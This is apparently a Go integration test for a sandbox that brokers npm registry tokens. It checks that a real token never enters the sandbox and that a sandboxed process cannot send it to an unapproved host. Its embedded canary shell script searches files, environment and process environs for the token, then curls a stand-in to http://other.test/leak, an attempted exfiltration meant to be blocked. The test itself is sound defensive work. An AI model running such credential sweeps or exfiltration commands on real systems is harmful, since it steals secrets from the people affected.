package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/elastic/go-seccomp-bpf/arch"
	"golang.org/x/sys/unix"

	"github.com/sysprof/sysprof/internal/npmregistry"
	"github.com/sysprof/sysprof/internal/testutil"
	"github.com/sysprof/sysprof/policy"
	"github.com/sysprof/sysprof/report"
)

// regAddr is the registries' address: a documentation address (TEST-NET-1) on the loopback of
// a network namespace of the test's own, so that no name resolves to the host's loopback.
const regAddr = "192.0.2.10"

// testCA returns a CA (PEM) and a certificate it signed for name (and more): the registry's,
// which the host trusts through SSL_CERT_FILE.
func testCA(name string, more ...string) (caPEM []byte, leaf tls.Certificate, err error) {
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, leaf, err
	}
	now := time.Now()
	caT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "sysprof test registry CA"}, NotBefore: now.Add(-time.Hour),
		NotAfter: now.Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, caT, caT, &caKey.PublicKey, caKey)
	if err != nil {
		return nil, leaf, err
	}
	ca, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	lT := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: name}, DNSNames: append([]string{name}, more...), NotBefore: now.Add(-time.Hour),
		NotAfter: now.Add(time.Hour), KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, lT, ca, &key.PublicKey, caKey)
	if err != nil {
		return nil, leaf, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}), tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
}

// credsScript is the sandboxed command: npm install with the brokered token, then a canary
// that looks for the real token (a piece of it, $1: the whole value must not enter the
// sandbox even as the canary's argument) in every readable file outside /usr, /proc, /sys
// and /dev (the root itself is not listable: the trees are named),
// the environment and every process's environ, then an exfiltration attempt of the stand-in
// to a second allowed host.
const credsScript = `N=$1
npm install --no-audit --no-fund --no-update-notifier --cache="$PWD/.npm-cache" >npm.log 2>&1; echo "npm rc=$?"
S=$(sed -n 's#^//reg.test/:_authToken=##p' "$HOME/.npmrc")
case $S in '${NPM_TOKEN}') S=$NPM_TOKEN;; esac
echo "standin=$S"
echo "files: $(grep -rlsF -e "$N" "$HOME" "$HOME/.npmrc" "$PWD" /etc /tmp /var /run /root /home /opt /srv /mnt /dev/shm | tr '\n' ' ')"
echo "env: $(env | grep -cF -e "$N")"
echo "environ: $(for f in /proc/[0-9]*/environ; do grep -lsaF -e "$N" "$f"; done | tr '\n' ' ')"
curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $S" http://other.test/leak 2>/dev/null; echo "exfil rc=$?"
curl -sS -m 60 -o /dev/null https://reg.test/ready 2>/dev/null; echo "ready rc=$?"
`

const credsProfile = `apiVersion: sysprof.dev/v1
kind: Profile
metadata: {name: npm-install, command: [npm, install], runs: 1, incomplete: false}
syscalls:
  architectures: [x86_64]
  allow: [%s]
  args:
    - {syscall: mprotect, arg: 2, name: prot, mask: PROT_EXEC, values: [PROT_EXEC, PROT_NONE]}
filesystem:
  read:
    - {path: /etc}
    - {path: /usr}
    - {path: /proc}
    - {path: /dev/urandom}
    - {path: $WORKDIR}
  write:
    - {path: /dev/null}
    - {path: $WORKDIR}
  exec:
    - {path: /usr/bin}
    - {path: /usr/lib}
  privateTmp: true
network:
  connect:
    - {endpoint: "reg.test:443", proto: tcp}
    - {endpoint: "other.test:80", proto: tcp}
credentials:
  - {file: $HOME/.npmrc, key: "//reg.test/:_authToken", hosts: [reg.test], how: bearer}
`

// npm install from a token-protected registry (TLS, a test CA the host trusts) with the
// token brokered: the client succeeds, the canary inside finds no trace of the real token,
// the stand-in sent to a second allowed host is refused and reported critical, and every use
// is logged. As root and as an ordinary user.
func TestCredentialsNpmBrokered(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTool(t, "npm")
	testutil.RequireTool(t, "curl")
	testutil.RequireTool(t, "ip")
	bin, err := sysprofBinary()
	if err != nil {
		t.Fatal(err)
	}
	errc := make(chan error, 1)
	// The goroutine's thread enters a network namespace of its own and never leaves it (the
	// thread ends with the goroutine): the registries listen there, and sysprof is started
	// from there, so its proxy dials them in that namespace.
	go func() {
		runtime.LockOSThread()
		if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
			errc <- testutil.NotAvailable("unshare(CLONE_NEWNET): %v", err)
			return
		}
		errc <- credsInNetns(t, bin)
	}()
	if err := <-errc; err != nil {
		testutil.RequireNoErr(t, "credentials run", err)
	}
}

func credsInNetns(t *testing.T, bin string) error {
	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", regAddr + "/32", "dev", "lo"}} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			return fmt.Errorf("ip %v: %v: %s", args, err, out)
		}
	}
	base, err := os.MkdirTemp("", "sysprof-creds-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(base)
	os.Chmod(base, 0o755)
	caPEM, leaf, err := testCA("reg.test")
	if err != nil {
		return err
	}
	caFile := filepath.Join(base, "ca.pem")
	if err := os.WriteFile(caFile, caPEM, 0o644); err != nil {
		return err
	}
	real := "npm_"
	{
		b := make([]byte, 36)
		rand.Read(b)
		for i := range b {
			b[i] = "abcdefghijklmnopqrstuvwxyz0123456789"[int(b[i])%36]
		}
		real += string(b)
	}
	needle := real[4:20]
	var mu sync.Mutex
	var regSaw, otherSaw []string
	var onReady func() // what GET /ready runs (on the registry's goroutine) while the command waits
	ln, err := net.Listen("tcp", regAddr+":443")
	if err != nil {
		return err
	}
	_, srv := npmregistry.ServeWith(tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{leaf}}), []string{"sysprof-probe"}, 1,
		npmregistry.Options{Base: "https://reg.test", Token: real, Seen: func(m, p, a string) {
			mu.Lock()
			regSaw = append(regSaw, m+" "+p+" "+a)
			probe := onReady
			mu.Unlock()
			if p == "/ready" && probe != nil {
				probe()
			}
		}})
	defer srv.Close()
	ln2, err := net.Listen("tcp", regAddr+":80")
	if err != nil {
		return err
	}
	other := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		mu.Lock()
		otherSaw = append(otherSaw, fmt.Sprint(r.Method, " ", r.URL, " ", r.Header))
		mu.Unlock()
	})}
	go other.Serve(ln2)
	defer other.Close()

	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
	os.MkdirAll(work, 0o755)
	os.MkdirAll(home, 0o755)
	pub := filepath.Join(base, "sysprof")
	if b, err := os.ReadFile(bin); err != nil || os.WriteFile(pub, b, 0o755) != nil {
		return fmt.Errorf("copy sysprof: %v", err)
	}
	os.WriteFile(filepath.Join(work, "package.json"), []byte(`{"name":"app","version":"1.0.0","dependencies":{"sysprof-probe":"1.0.0"}}`), 0o644)
	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(fmt.Sprintf(credsProfile, allSyscalls())), 0o644)

	var errs []string
	for _, nobody := range []bool{false, true} {
		mu.Lock()
		regSaw, otherSaw = nil, nil
		mu.Unlock()
		os.RemoveAll(filepath.Join(work, "node_modules"))
		os.Remove(filepath.Join(work, "package-lock.json"))
		// As root the token is in the store; as nobody the store refers to $NPM_TOKEN (CI's
		// habit), which holds it: then the variable is what carries the stand-in.
		npmrc, tokenEnv := "registry=https://reg.test/\n//reg.test/:_authToken="+real+"\n", "NPM_TOKEN=unused"
		if nobody {
			npmrc, tokenEnv = "registry=https://reg.test/\n//reg.test/:_authToken=${NPM_TOKEN}\n", "NPM_TOKEN="+real
		}
		os.WriteFile(filepath.Join(home, ".npmrc"), []byte(npmrc), 0o600)
		// The report (which names the canary's argument) is written outside the work tree.
		repDir := filepath.Join(base, fmt.Sprintf("rep-%v", nobody))
		os.Mkdir(repDir, 0o777)
		os.Chmod(repDir, 0o777)
		repFile := filepath.Join(repDir, "rep.json")
		cmd := exec.Command(pub, "enforce", "-p", "prof.yaml", "--report", repFile,
			"--resolve", "reg.test="+regAddr, "--resolve", "other.test="+regAddr, "--", "sh", "-c", credsScript, "sh", needle)
		cmd.Dir = work
		cmd.Env = append(os.Environ(), "HOME="+home, "SSL_CERT_FILE="+caFile, tokenEnv)
		if nobody {
			if out, err := exec.Command("chown", "-R", "65534:65534", work, home).CombinedOutput(); err != nil {
				return fmt.Errorf("chown: %v %s", err, out)
			}
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		}
		// While the command waits for its GET /ready, the host looks at the processes of the
		// sandbox: sysprof's children (the init stage, PID 1 inside) and theirs must not hold
		// the real token in their environment.
		var outBuf bytes.Buffer
		cmd.Stdout, cmd.Stderr = &outBuf, &outBuf
		if err := cmd.Start(); err != nil {
			return err
		}
		inside, probed := "", false
		mu.Lock()
		onReady = func() { inside, probed = environsBelow(cmd.Process.Pid, needle), true }
		mu.Unlock()
		err := cmd.Wait()
		mu.Lock()
		onReady = nil
		mu.Unlock()
		out := string(outBuf.Bytes())
		who := map[bool]string{false: "root", true: "nobody"}[nobody]
		fail := func(f string, a ...any) {
			npmLog, _ := os.ReadFile(filepath.Join(work, "npm.log"))
			errs = append(errs, who+": "+fmt.Sprintf(f, a...)+"\noutput:\n"+out+"\nnpm.log:\n"+string(npmLog))
		}
		if err != nil {
			fail("enforce: %v", err)
			continue
		}
		lines := map[string]string{}
		for _, l := range strings.Split(out, "\n") {
			if k, v, ok := strings.Cut(l, "="); ok && !strings.Contains(k, ":") {
				lines[k] = v
			} else if k, v, ok := strings.Cut(l, ": "); ok {
				lines[k] = strings.TrimSpace(v)
			}
		}
		standIn := lines["standin"]
		switch {
		case lines["npm rc"] != "0":
			fail("npm install failed")
		case standIn == "" || strings.Contains(standIn, needle):
			fail("the .npmrc inside holds no stand-in, or the real token (%q)", standIn)
		case lines["files"] != "" || lines["env"] != "0" || lines["environ"] != "":
			fail("the canary found the real token: files %q, env %q, environ %q", lines["files"], lines["env"], lines["environ"])
		case lines["exfil rc"] == "0":
			fail("the stand-in reached other.test")
		case !probed:
			fail("the sandbox's processes were not looked at (no GET /ready)")
		case inside != "":
			fail("a process of the sandbox holds the real token in its environment: %s", inside)
		}
		if m, _ := os.ReadFile(filepath.Join(work, "node_modules", "sysprof-probe", "postinstall.txt")); string(m) != "ok" {
			fail("the package was not installed")
		}
		mu.Lock()
		reg, oth := strings.Join(regSaw, "\n"), strings.Join(otherSaw, "\n")
		mu.Unlock()
		if !strings.Contains(reg, "GET /sysprof-probe Bearer "+real) || standIn != "" && strings.Contains(reg, standIn) {
			fail("the registry did not get the real token (and only it):\n%s", reg)
		}
		if standIn != "" && strings.Contains(oth, standIn) {
			fail("other.test saw the stand-in:\n%s", oth)
		}
		data, err := os.ReadFile(repFile)
		if err != nil {
			fail("report: %v", err)
			continue
		}
		rep, err := report.Parse(data)
		if err != nil || rep == nil {
			fail("report: %v", err)
			continue
		}
		crit := false
		for _, d := range rep.Denials {
			if d.Risk == report.RiskCritical && strings.Contains(d.What, "tried to send the stand-in of $HOME/.npmrc //reg.test/:_authToken") || strings.Contains(d.What, "stand-in") && strings.Contains(d.What, "to other.test") {
				crit = true
			}
		}
		if !crit {
			fail("no critical denial for the stand-in sent to other.test: %+v", rep.Denials)
		}
		used := false
		for _, u := range rep.CredentialUses {
			if u.Host == "reg.test:443" && u.Method == "GET" && u.Path == "/sysprof-probe" && u.Status == 200 && strings.HasSuffix(u.Binary, "/node") && u.BytesIn > 0 {
				used = true
			}
		}
		if !used {
			fail("the credential's use is not logged: %+v", rep.CredentialUses)
		}
		if strings.Contains(string(data), real) {
			fail("the report holds the real token")
		}
	}
	if len(errs) > 0 {
		return fmt.Errorf("%s", strings.Join(errs, "\n\n"))
	}
	return nil
}

// allSyscalls lists every x86_64 syscall that is not privileged (seccomp is not what this
// tests), as a YAML flow list.
func allSyscalls() string {
	var out []string
	for name := range arch.X86_64.SyscallNames {
		if policy.PrivilegedSyscall(name) == "" {
			out = append(out, "{name: "+name+"}")
		}
	}
	slices.Sort(out)
	return strings.Join(out, ", ")
}

// learn finds the flow (node reads ~/.npmrc, whose token is scoped to the registry it then
// connects to) and writes a credentials rule; enforce then installs from the token-protected
// plain-HTTP registry on loopback with the token brokered.
func TestCredentialsNpmLearnedLoopback(t *testing.T) {
	testutil.RequireRoot(t)
	npm := testutil.RequireTool(t, "npm")
	bin, err := sysprofBinary()
	if err != nil {
		t.Fatal(err)
	}
	base := t.TempDir()
	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
	os.MkdirAll(work, 0o755)
	os.MkdirAll(home, 0o755)
	real := "npm_" + strings.Repeat("r3al", 9)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var saw []string
	url, srv := npmregistry.ServeWith(ln, []string{"sysprof-probe"}, 1, npmregistry.Options{Token: real, Seen: func(m, p, a string) {
		mu.Lock()
		saw = append(saw, m+" "+p+" "+a)
		mu.Unlock()
	}})
	defer srv.Close()
	hostPort := strings.TrimSuffix(strings.TrimPrefix(url, "http://"), "/")
	testutil.WriteFile(t, filepath.Join(home, ".npmrc"), "registry="+url+"\n//"+hostPort+"/:_authToken="+real+"\n", 0o600)
	testutil.WriteFile(t, filepath.Join(work, "package.json"), `{"name":"app","version":"1.0.0","dependencies":{"sysprof-probe":"1.0.0"}}`, 0o644)
	install := []string{npm, "install", "--no-audit", "--no-fund", "--no-update-notifier", "--cache=" + filepath.Join(work, ".npm-cache")}
	run := func(args ...string) (string, error) {
		cmd := exec.Command(bin, args...)
		cmd.Dir = work
		cmd.Env = append(os.Environ(), "HOME="+home)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	clean := func() {
		os.RemoveAll(filepath.Join(work, "node_modules"))
		os.Remove(filepath.Join(work, "package-lock.json"))
	}
	for range 2 { // a cold cache, then a warm one (what the enforced run has)
		out, err := run(append([]string{"learn", "-p", "npm.yaml", "--"}, install...)...)
		if err != nil {
			t.Fatalf("learn: %v\n%s", err, out)
		}
		if !strings.Contains(out, "credential flow(s) brokered") {
			t.Errorf("learn's review does not list the credential flow:\n%s", out)
		}
		clean()
	}
	prof, _ := os.ReadFile(filepath.Join(work, "npm.yaml"))
	if !strings.Contains(string(prof), "credentials:\n  - {file: $HOME/.npmrc, key: \"//"+hostPort+"/:_authToken\", hosts: [\""+hostPort+"\"], how: bearer, by: /usr/bin/node") {
		t.Fatalf("the learned profile has no credentials rule for %s:\n%s", hostPort, prof)
	}
	mu.Lock()
	saw = nil
	mu.Unlock()
	out, err := run(append([]string{"enforce", "-p", "npm.yaml", "--report", filepath.Join(base, "rep.json"), "--"}, install...)...)
	if err != nil {
		t.Fatalf("enforce: %v\n%s", err, out)
	}
	if b, err := os.ReadFile(filepath.Join(work, "node_modules", "sysprof-probe", "postinstall.txt")); err != nil || string(b) != "ok" {
		t.Errorf("not installed under enforce: %v\n%s", err, out)
	}
	mu.Lock()
	got := strings.Join(saw, "\n")
	mu.Unlock()
	if !strings.Contains(got, "GET /sysprof-probe Bearer "+real) {
		t.Errorf("the registry did not get the real token:\n%s", got)
	}
	rep := testutil.ReadReport(t, filepath.Join(base, "rep.json"))
	if len(rep.CredentialUses) == 0 || rep.CredentialUses[0].Status != 200 {
		t.Errorf("uses: %+v\n%s", rep.CredentialUses, out)
	}
}

// environsBelow lists the descendants of pid (host pids, read as root from the host) whose
// environment holds needle.
func environsBelow(pid int, needle string) string {
	var found []string
	var walk func(int)
	walk = func(p int) {
		tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", p))
		for _, t := range tasks {
			kids, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%s/children", p, t.Name()))
			for _, k := range strings.Fields(string(kids)) {
				var c int
				fmt.Sscan(k, &c)
				if env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", c)); err == nil && strings.Contains(string(env), needle) {
					exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", c))
					found = append(found, fmt.Sprintf("pid %d (%s)", c, exe))
				}
				walk(c)
			}
		}
	}
	walk(pid)
	return strings.Join(found, ", ")
}
